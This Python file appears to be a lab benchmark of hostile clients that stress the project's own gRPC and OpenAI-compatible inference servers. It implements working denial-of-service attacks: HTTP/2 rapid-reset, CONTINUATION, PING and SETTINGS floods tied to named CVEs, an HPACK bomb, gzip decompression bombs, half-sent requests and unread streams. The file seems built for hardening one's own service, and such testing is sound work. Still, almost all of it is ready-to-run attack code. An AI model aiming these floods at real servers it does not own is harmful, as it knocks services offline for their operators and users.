"""Hostile clients: `python -m tools.lab.bench.attackers NAME HOST PORT [SOURCE…]`.

Each source address is one connection, which is opened again when the server ends it. The bytes of
an attack are made once and sent over and over, so that they cost the attacker next to nothing.
"""

from __future__ import annotations

import gzip
import selectors
import socket
import sys
import time
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from itertools import count
from typing import TYPE_CHECKING

from hpack.hpack import encode_integer

from grpc_service.client import messages as pb
from tests.support import raw_http2 as raw
from tests.support.raw_http2 import END_HEADERS, END_STREAM, frame

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

    from google.protobuf.message import Message

PIECE_BYTES = 2**14  # of a DATA frame at most
REST_S = 0.02
NEW_MAX = 40  # connections opened in a row
GENERATE, TOKENIZE = b"/triolet.v1.Inference/Generate", b"/triolet.v1.Inference/Tokenize"
EMBED = b"/triolet.v1.Inference/Embed"
MESSAGE_BYTES = 4 * 2**20  # the server's limit of a request
IMAGE_BYTES = 16 * 2**20  # the server's limit of a request with images


def block_of(fields: list[tuple[bytes, bytes]]) -> bytes:
    """Return a header block that uses no table, so that it is the same in every request."""
    parts = []
    for name, value in fields:
        parts += [b"\0", _number(len(name)), name, _number(len(value)), value]
    return b"".join(parts)


def _number(value: int) -> bytes:
    """Encode a length in hpack's way, with a prefix of seven bits."""
    return bytes(encode_integer(value, 7))


def request(path: bytes = GENERATE, method: bytes = b"POST") -> bytes:
    """Return the header block of a call."""
    return block_of(
        [
            *((b":method", method), (b":scheme", b"http"), (b":path", path)),
            *((b":authority", b"a"), (b"content-type", b"application/grpc"), (b"te", b"trailers")),
        ]
    )


def framed(message: bytes, *, is_compressed: bool = False) -> bytes:
    """Return a message with its gRPC prefix: whether it is compressed, and its length."""
    return bytes([is_compressed]) + len(message).to_bytes(4, "big") + message


def headers(stream: int, block: bytes, *, is_last: bool = False) -> bytes:
    """Return the frame of a header block."""
    return frame(raw.HEADERS, END_HEADERS | (END_STREAM if is_last else 0), stream, block)


def data(stream: int, body: bytes, *, is_last: bool = False) -> bytes:
    """Return the frames of a body."""
    pieces = [body[at : at + PIECE_BYTES] for at in range(0, len(body), PIECE_BYTES)] or [b""]
    last = len(pieces) - 1
    return b"".join(
        frame(raw.DATA, END_STREAM if is_last and number == last else 0, stream, piece)
        for number, piece in enumerate(pieces)
    )


def window(stream: int, increment: int) -> bytes:
    """Return a WINDOW_UPDATE frame."""
    return frame(raw.WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def setting(number: int, value: int) -> bytes:
    """Return a SETTINGS frame with one setting."""
    return frame(raw.SETTINGS, 0, 0, number.to_bytes(2, "big") + value.to_bytes(4, "big"))


INITIAL_WINDOW = 4  # the number of the setting SETTINGS_INITIAL_WINDOW_SIZE
CANCEL = (8).to_bytes(4, "big")


def ids() -> Iterator[int]:
    """Yield the ids of a client's HTTP/2 streams: 1, 3, 5 and so on."""
    return count(1, 2)


def repeat(piece: bytes) -> Callable[[], Iterator[bytes]]:
    """Return an attack that sends the same bytes for ever."""
    many = piece * max(1, PIECE_BYTES // len(piece))

    def run() -> Iterator[bytes]:
        while True:
            yield many

    return run


def bare(block: bytes) -> Callable[[], Iterator[bytes]]:
    """Return an attack that begins calls for ever, each of one HEADERS frame with this block."""
    return calls(lambda stream: headers(stream, block, is_last=True))


def calls(make: Callable[[int], bytes], num_at_once: int = 100) -> Callable[[], Iterator[bytes]]:
    """Return an attack that begins calls for ever; ``make(stream)`` returns the bytes of a call."""

    def run() -> Iterator[bytes]:
        streams = ids()
        while True:
            yield b"".join(make(next(streams)) for _ in range(num_at_once))

    return run


def after(first: bytes, attack: Callable[[], Iterator[bytes]]) -> Callable[[], Iterator[bytes]]:
    """Return an attack that sends ``first`` and then what ``attack`` sends."""

    def run() -> Iterator[bytes]:
        yield first
        yield from attack()

    return run


def once(first: bytes) -> Callable[[], Iterator[bytes]]:
    """Return an attack that sends some bytes, and then only keeps its connection."""

    def run() -> Iterator[bytes]:
        yield first

    return run


def toggled() -> Iterator[bytes]:
    """Change the windows of a thousand streams, over and over."""
    block = request()
    yield b"".join(headers(stream, block) for stream in range(1, 1999, 2))
    while True:
        yield (setting(INITIAL_WINDOW, 0) + setting(INITIAL_WINDOW, 65_535)) * 10


def half_messages(
    path: bytes = GENERATE, num_bytes: int = MESSAGE_BYTES, num_streams: int = 150
) -> Callable[[], Iterator[bytes]]:
    """Return an attack that sends all but the last byte of a message on many streams."""
    block = request(path)
    body = b"\0" + num_bytes.to_bytes(4, "big") + bytes(num_bytes - 1)

    def run() -> Iterator[bytes]:
        for stream in range(1, 2 * num_streams, 2):
            yield headers(stream, block)
        for at in range(0, len(body), PIECE_BYTES):
            for stream in range(1, 2 * num_streams, 2):
                yield data(stream, body[at : at + PIECE_BYTES])

    return run


GZIP = block_of([(b"grpc-encoding", b"gzip")])
ANSWERED = pb.TokenizeRequest(text="a " * 45_000)  # its ids nearly fill an answer
LONG = pb.TokenizeRequest(text="a " * 2**19)
CUT = pb.GenerateRequest(
    text="a " * (2**21 - 100), prompt={"truncate_to": 9}, sampling={"max_tokens": 1}
)


def packed(message: Message) -> bytes:
    """Return the compressed body of a call."""
    return framed(gzip.compress(message.SerializeToString()), is_compressed=True)


LARGE, LONG_BODY, CUT_BODY = map(packed, (ANSWERED, LONG, CUT))
BOMB = framed(gzip.compress(bytes(MESSAGE_BYTES)), is_compressed=True)
IMAGE_BOMB = framed(gzip.compress(bytes(IMAGE_BYTES)), is_compressed=True)
IMAGES = pb.EmbedRequest(inputs=[{"image": bytes(IMAGE_BYTES - 2**10)}]).SerializeToString()


def tokenize(stream: int) -> bytes:
    """Return a call whose answer is large."""
    return headers(stream, request(TOKENIZE) + GZIP) + data(stream, LARGE, is_last=True)


def long_text(stream: int) -> bytes:
    """Return a call that has the longest text tokenised."""
    return headers(stream, request(TOKENIZE) + GZIP) + data(stream, LONG_BODY, is_last=True)


def long_prompt(stream: int) -> bytes:
    """Return a call with the longest prompt that a message can hold, which is to be truncated."""
    return headers(stream, request() + GZIP) + data(stream, CUT_BODY, is_last=True)


def bomb(stream: int) -> bytes:
    """Return a call whose request is a thousand times as large when it is decompressed."""
    return headers(stream, request() + GZIP) + data(stream, BOMB, is_last=True)


def image_bomb(stream: int) -> bytes:
    """Return a call of Embed whose request is 16 MiB, the limit of images, when decompressed."""
    return headers(stream, request(EMBED) + GZIP) + data(stream, IMAGE_BOMB, is_last=True)


def no_images() -> Iterator[bytes]:
    """Send Embed the largest request over and over; its image is zeros and no image format."""
    body = framed(IMAGES)
    for stream in ids():
        yield headers(stream, request(EMBED))
        for at in range(0, len(body), PIECE_BYTES):
            is_last = at + PIECE_BYTES >= len(body)
            yield data(stream, body[at : at + PIECE_BYTES], is_last=is_last)


# Headers for HPACK's dynamic table, each so large that it evicts the one before it.
CHURN = b"".join(
    b"\x40" + _number(4) + b"x-%02d" % number + _number(4000) + b"a" * 4000 for number in range(4)
)


def hpack_bomb() -> Iterator[bytes]:
    """Put one large header into HPACK's table; then send requests that repeat it by 15 bytes."""
    large = b"\x40" + _number(3) + b"x-a" + _number(4000) + b"a" * 4000
    streams = ids()
    yield headers(next(streams), request() + large, is_last=True)
    while True:
        yield headers(next(streams), request() + b"\xbe" * 15, is_last=True)


def generate(stream: int, max_tokens: int, window_s: int | None = None) -> bytes:
    """Return a call of Generate for so many tokens. After a lost connection, its client may resume
    the stream for ``window_s`` seconds."""
    message = pb.GenerateRequest(text="a", sampling={"max_tokens": max_tokens, "ignore_eos": True})
    if window_s is not None:
        message.resume_window.seconds = window_s
    body = framed(message.SerializeToString())
    return headers(stream, request()) + data(stream, body, is_last=True)


@dataclass(frozen=True)
class Attack:
    """An attacker, whose connections each send the bytes that ``run`` yields. The flags: it reads
    answers, keeps to the server's flow-control windows, reconnects each time it has sent all."""

    run: Callable[[], Iterator[bytes]]
    reads: bool = True
    keeps_windows: bool = False
    hangs_up: bool = False
    num_connections: int = 1  # from each source address
    is_http: bool = False  # to the port of OpenAI's API


def http(path: str, body: bytes, *, num_bytes: int | None = None) -> bytes:
    """Return a request over HTTP, which announces ``num_bytes`` of a body; None: those it has."""
    size = len(body) if num_bytes is None else num_bytes
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {size}\r\n\r\n".encode() + body


TEXT, CHAT = "/v1/completions", "/v1/chat/completions"
UNREAD = b'{"prompt": "a", "max_tokens": 2000, "ignore_eos": true, "stream": true, "logprobs": 20}'
VALUES = b'{"messages": [' + b"{}," * 300_000 + b"{}]}"
TOKEN = b'{"prompt": "a", "max_tokens": 1, "stream": true}'
OF_HTTP = {
    "HTTP: unknown paths": Attack(repeat(http("/x", b"")), is_http=True),
    "HTTP: garbage": Attack(repeat(http(TEXT, b"{")), is_http=True),
    "HTTP: probes": Attack(repeat(b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n"), is_http=True),
    "HTTP: requests for a token": Attack(repeat(http(TEXT, TOKEN)), is_http=True),
    "HTTP: half heads": Attack(once(b"POST /v1/comp"), is_http=True, num_connections=80),
    "HTTP: half bodies": Attack(
        once(http(TEXT, b" " * (MESSAGE_BYTES - 10), num_bytes=MESSAGE_BYTES)),
        is_http=True,
        num_connections=20,
    ),
    "HTTP: bodies of many values": Attack(repeat(http(CHAT, VALUES)), is_http=True),
    "HTTP: streams not read": Attack(
        once(http(TEXT, UNREAD)), reads=False, is_http=True, num_connections=30
    ),
    "HTTP: streams begun and left": Attack(
        once(http(TEXT, UNREAD)), hangs_up=True, is_http=True, num_connections=4
    ),
    "HTTP: connections opened and closed": Attack(once(b""), hangs_up=True, is_http=True),
}
OPEN = headers(1, request())
INCOMPLETE = block_of([(b":method", b"POST")])
ATTACKS = {
    "window updates of a stream": Attack(after(OPEN, repeat(window(1, 1)))),
    "window updates of the connection": Attack(repeat(window(0, 1))),
    "unknown frames": Attack(repeat(frame(0xFA, 0, 0))),
    "resets of a closed stream": Attack(
        after(
            OPEN + frame(raw.RST_STREAM, 0, 1, CANCEL), repeat(frame(raw.RST_STREAM, 0, 1, CANCEL))
        )
    ),
    "GET calls": Attack(bare(request(method=b"GET"))),
    "unknown methods": Attack(bare(request(b"/x.Y/Z"))),
    "malformed calls": Attack(calls(lambda stream: headers(stream, INCOMPLETE))),
    "empty DATA (CVE-2019-9518)": Attack(after(OPEN, repeat(frame(raw.DATA, 0, 1)))),
    "DATA of one byte": Attack(after(OPEN, repeat(data(1, b"\0"))), keeps_windows=True),
    "PRIORITY (CVE-2019-9513)": Attack(repeat(frame(raw.PRIORITY, 0, 3, b"\0\0\0\0\x10"))),
    "rapid reset (CVE-2023-44487)": Attack(
        calls(lambda stream: headers(stream, request()) + frame(raw.RST_STREAM, 0, stream, CANCEL))
    ),
    "resets by the server (CVE-2025-8671)": Attack(
        calls(lambda stream: headers(stream, request()) + window(stream, 2**31 - 1))
    ),
    "resets by a wrong priority (CVE-2019-9514)": Attack(
        calls(
            lambda stream: headers(stream, request()) + frame(raw.PRIORITY, 0, stream, b"\0\0\0\0")
        )
    ),
    "SETTINGS (CVE-2019-9515)": Attack(repeat(frame(raw.SETTINGS, 0, 0))),
    "windows toggled over 1,000 streams": Attack(toggled),
    "PINGs (CVE-2019-9512)": Attack(repeat(frame(raw.PING, 0, 0, bytes(8))), reads=False),
    "PINGs whose answers are read": Attack(repeat(frame(raw.PING, 0, 0, bytes(8)))),
    "one byte of window at a time (CVE-2019-9511)": Attack(
        after(
            setting(INITIAL_WINDOW, 0)
            + b"".join(generate(stream, 4000) for stream in range(1, 9, 2)),
            repeat(b"".join(window(stream, 1) for stream in range(1, 9, 2))),
        )
    ),
    "headers without names (CVE-2019-9516)": Attack(bare(block_of([(b"", b"")] * 100))),
    "CONTINUATION (CVE-2024-27316)": Attack(
        after(
            frame(raw.HEADERS, 0, 1, request()), repeat(frame(raw.CONTINUATION, 0, 1, b"\0\1x\1y"))
        )
    ),
    "answers not read (CVE-2019-9517)": Attack(
        once(
            setting(INITIAL_WINDOW, 0) + b"".join(tokenize(stream) for stream in range(1, 151, 2))
        ),
        reads=False,
    ),
    "ends not read": Attack(
        once(setting(INITIAL_WINDOW, 0) + b"".join(generate(n, 1) for n in range(1, 129, 2)))
    ),
    "requests for a token": Attack(calls(lambda stream: generate(stream, 1)), keeps_windows=True),
    "half messages": Attack(half_messages(), keeps_windows=True),
    "half images": Attack(half_messages(EMBED, IMAGE_BYTES), keeps_windows=True),
    "streams without a window": Attack(
        after(
            setting(INITIAL_WINDOW, 0) + b"".join(generate(n, 4000) for n in range(1, 2000, 2)),
            repeat(window(0, 1)),
        ),
        keeps_windows=True,
    ),
    "long texts": Attack(calls(long_text, 4), keeps_windows=True),
    "long prompts that are cut": Attack(calls(long_prompt, 4), keeps_windows=True),
    "gzip bombs": Attack(calls(bomb), keeps_windows=True),
    "gzip bombs of images": Attack(calls(image_bomb, 25), keeps_windows=True),
    "images that are none": Attack(no_images, keeps_windows=True),
    "header table churn": Attack(bare(CHURN + request())),
    "HPACK bomb (CVE-2016-6581)": Attack(hpack_bomb),
    "connections opened and closed": Attack(once(b""), hangs_up=True),
    "connections held": Attack(once(OPEN), num_connections=80),
    **OF_HTTP,
}


@contextmanager
def hoarding(address: tuple[str, int], sources: Iterable[str], num_each: int) -> Iterator[None]:
    """Ask from each source address for ``num_each`` streams that may be resumed for an hour. Close
    all connections when the block ends."""
    asked = b"".join(generate(stream, 4000, 3600) for stream in range(1, 2 * num_each, 2))
    with ExitStack() as stack:
        for source in sources:
            sock = socket.create_connection(address, timeout=5, source_address=(source, 0))
            stack.enter_context(sock).sendall(raw.PREFACE + frame(raw.SETTINGS, 0, 0) + asked)
        yield


class Connection:
    """One connection of an attacker, without blocking."""

    def __init__(self, attack: Attack, address: tuple[str, int], source: str) -> None:
        self.attack = attack
        self.sock = socket.create_connection(address, timeout=5, source_address=(source, 0))
        self.sock.setblocking(False)
        self._pieces = attack.run()
        self._waiting = b"" if attack.is_http else raw.PREFACE + frame(raw.SETTINGS, 0, 0)
        self._is_begun = False  # whether a part of ``_waiting`` was sent
        self._windows = raw.Windows() if attack.keeps_windows else None

    def send(self) -> None:
        """Send until the socket is full, or the attack or the server's windows allow no more."""
        while self.may_send():
            if self._windows is not None and not self._is_begun:
                self._windows.spend(self._waiting)
            try:
                num_sent = self.sock.send(self._waiting)
            except BlockingIOError:
                num_sent = 0
            self._waiting = self._waiting[num_sent:]
            self._is_begun = bool(self._waiting)
            if self._waiting:
                return

    def may_send(self) -> bool:
        """Return whether there is something to send, and the server's windows have room for it."""
        self._waiting = self._waiting or next(self._pieces, b"")
        if self._windows is None or self._is_begun:
            return bool(self._waiting)
        return bool(self._waiting) and self._windows.has_room(self._waiting)

    def receive(self) -> bool:
        """Take what the server has sent; return False when it has closed."""
        try:
            data = self.sock.recv(2**18)
        except BlockingIOError:
            return True
        except OSError:
            return False
        if self._windows is not None:
            self._windows.feed(data)
        return bool(data)


def main() -> None:
    """Attack until killed."""
    name, host, port, *sources = sys.argv[1:]
    attack, address = ATTACKS[name], (host, int(port))
    with selectors.DefaultSelector() as selector:
        missing = list(sources) * attack.num_connections
        print("ready", flush=True)
        while True:
            for source in missing[:NEW_MAX]:
                try:
                    one = Connection(attack, address, source)
                except OSError:
                    time.sleep(REST_S)
                    continue
                missing.remove(source)
                selector.register(one.sock, selectors.EVENT_WRITE, (one, source))
            for key, ready in selector.select(0.1):
                one, source = key.data
                is_alive = True
                try:
                    if ready & selectors.EVENT_WRITE:
                        one.send()
                    if ready & selectors.EVENT_READ:
                        is_alive = one.receive()
                    # A client that does not read still hears of its connection's end.
                    reads = selectors.EVENT_READ if attack.reads or not one.may_send() else 0
                    events = reads | (selectors.EVENT_WRITE if one.may_send() else 0)
                    if events != key.events:
                        selector.modify(one.sock, events, key.data)
                except OSError:
                    is_alive = False
                if attack.hangs_up and not one.may_send():
                    is_alive = False
                if not is_alive:
                    selector.unregister(one.sock)
                    one.sock.close()
                    missing.append(source)


if __name__ == "__main__":
    main()
